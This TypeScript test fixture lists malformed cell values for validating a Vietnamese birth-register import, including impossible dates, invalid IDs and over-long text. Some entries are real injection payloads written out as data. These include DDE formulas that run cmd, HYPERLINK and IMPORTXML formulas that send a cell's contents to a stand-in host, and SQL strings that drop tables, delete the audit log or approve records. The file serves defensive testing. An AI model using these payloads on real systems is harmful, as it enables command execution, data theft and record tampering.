/**
 * Values typed into one cell of a birth-register row. Formula-looking and SQL-looking ones are
 * data like any other (a name may start with "=" in a damaged export): kept verbatim, as text,
 * never evaluated. Impossible dates and IDs are refused with their reason or flagged for the
 * reviewer; over-long text is kept whole or refused, never cut.
 */
import type { BadCellValue, Category } from './corpus-types';

const NAME = 'Họ và tên';
const NOTE = 'Ghi chú';
const BIRTH = 'Ngày sinh';
const REGISTERED = 'Ngày đăng ký';
const ID = 'Số định danh cá nhân';
const NUMBER = 'Số đăng ký';
const YEAR = 'Năm đăng ký';
const BOOK = 'Quyển số';
const UNIT = 'Mã ĐVHC nơi đăng ký';
const BIRTHPLACE = 'Nơi sinh';

const v = (category: Category, id: string, column: string, value: string): BadCellValue => ({ kind: 'cell', id: `${category}/${id}`, category, column, value });
const fullWidth = (s: string) => s.replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d)));

export function cellValueInputs(): BadCellValue[] {
  return [
    // OWASP's CSV injection list and what Excel takes for a formula.
    v('formula-looking', 'equals-sum', NAME, '=1+1'),
    v('formula-looking', 'equals-range', NOTE, '=SUM(A1:A9)'),
    v('formula-looking', 'plus', NAME, '+1+1'),
    v('formula-looking', 'minus', NAME, '-1+2'),
    v('formula-looking', 'at', NAME, '@SUM(1+1)'),
    v('formula-looking', 'hyperlink', NOTE, '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'),
    v('formula-looking', 'dde', NOTE, "=cmd|' /C calc'!A0"),
    v('formula-looking', 'dde-plus', BIRTHPLACE, "+cmd|' /C notepad'!'A1'"),
    v('formula-looking', 'tab-first', NAME, '\t=1+1'),
    v('formula-looking', 'carriage-return-first', NOTE, '\r=1+1'),
    v('formula-looking', 'space-first', NAME, ' =1+1'),
    v('formula-looking', 'full-width-equals', NAME, '＝1+1'),
    v('formula-looking', 'in-date', BIRTH, '=DATE(2020,1,1)'),
    v('formula-looking', 'in-number', NUMBER, '=ROW()'),
    v('formula-looking', 'in-id', ID, '+84912345678'),
    v('formula-looking', 'vietnamese-name', NAME, '=Nguyễn Văn An'),
    v('formula-looking', 'import-xml', NOTE, '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")'),
    v('formula-looking', 'minus-only', BIRTHPLACE, '-'),
    // SQL, and what PostgreSQL's COPY text format gives meaning to.
    v('sql-looking', 'drop-table', NAME, "Robert'); DROP TABLE records; --"),
    v('sql-looking', 'or-true', NOTE, "' OR '1'='1"),
    v('sql-looking', 'stacked-sleep', NOTE, '1; SELECT pg_sleep(30); --'),
    v('sql-looking', 'dollar-quote', NOTE, '$$; DELETE FROM audit_log; $$'),
    v('sql-looking', 'copy-null-marker', NAME, '\\N'),
    v('sql-looking', 'copy-end-marker', NOTE, '\\.'),
    v('sql-looking', 'copy-tab', NAME, 'Nguyễn\tVăn An'),
    v('sql-looking', 'copy-backslash', NOTE, 'C:\\Users\\x\\n\\t'),
    v('sql-looking', 'in-number', NUMBER, "1' OR 1=1 --"),
    v('sql-looking', 'in-book', BOOK, "01'; UPDATE records SET state='approved'; --"),
    v('sql-looking', 'json-escape', NOTE, '{"$ne": null}'),
    v('sql-looking', 'nul', NOTE, 'trước\u0000sau'),
    // Long text: Excel's cell holds 32,767 characters; a CSV holds any.
    v('long-string', 'name-1000', NAME, 'Nguyễn '.repeat(143).trim()),
    v('long-string', 'note-32767', NOTE, 'ạ'.repeat(32_767)),
    v('long-string', 'note-32768', NOTE, 'ạ'.repeat(32_768)),
    v('long-string', 'note-100k', NOTE, 'Ghi chú dài. '.repeat(7_700)),
    v('long-string', 'number-500-digits', NUMBER, '1'.repeat(500)),
    v('long-string', 'combining-marks', NAME, `A${'\u0301'.repeat(5000)}n`),
    v('long-string', 'emoji', NAME, 'Nguyễn 👨‍👩‍👧‍👦 An'.repeat(50)),
    // Dates.
    v('impossible-date', 'february-31', BIRTH, '31/02/2020'),
    v('impossible-date', 'february-29-not-leap', BIRTH, '29/02/2019'),
    v('impossible-date', 'all-zero', BIRTH, '00/00/0000'),
    v('impossible-date', 'day-32', REGISTERED, '32/01/2010'),
    v('impossible-date', 'month-13', REGISTERED, '15/13/2010'),
    v('impossible-date', 'year-zero', BIRTH, '01/01/0000'),
    v('impossible-date', 'far-future', BIRTH, '01/01/9999'),
    v('impossible-date', 'iso-february-30', REGISTERED, '2010-02-30'),
    v('impossible-date', 'words', BIRTH, 'ngày ba mươi mốt tháng hai'),
    v('impossible-date', 'negative', BIRTH, '-5'),
    v('impossible-date', 'serial-huge', BIRTH, '99999999'),
    v('impossible-date', 'scientific', REGISTERED, '1e10'),
    v('impossible-date', 'year-letters', YEAR, 'hai nghìn'),
    v('impossible-date', 'year-negative', YEAR, '-2010'),
    v('impossible-date', 'year-five-digits', YEAR, '20100'),
    v('impossible-date', 'born-after-registered', BIRTH, '01/01/2030'),
    // Personal IDs and codes.
    v('impossible-id', 'id-5-digits', ID, '12345'),
    v('impossible-id', 'id-13-digits', ID, '0013225292361'),
    v('impossible-id', 'id-letters', ID, 'abcdefghijkl'),
    v('impossible-id', 'id-zeros', ID, '000000000000'),
    v('impossible-id', 'id-province-99', ID, '099322529236'),
    v('impossible-id', 'id-century-digit', ID, '001922529236'),
    v('impossible-id', 'id-spaces', ID, '001 322 529 236'),
    v('impossible-id', 'id-full-width', ID, fullWidth('001322529236')),
    v('impossible-id', 'id-scientific', ID, '1.32253E+11'),
    v('impossible-id', 'id-negative', ID, '-001322529236'),
    v('impossible-id', 'unit-unknown', UNIT, '99999'),
    v('impossible-id', 'unit-letters', UNIT, 'abcde'),
    v('impossible-id', 'unit-too-long', UNIT, '003760'),
    v('impossible-id', 'book-zero', BOOK, '0'),
    v('impossible-id', 'number-zero', NUMBER, '0'),
  ];
}
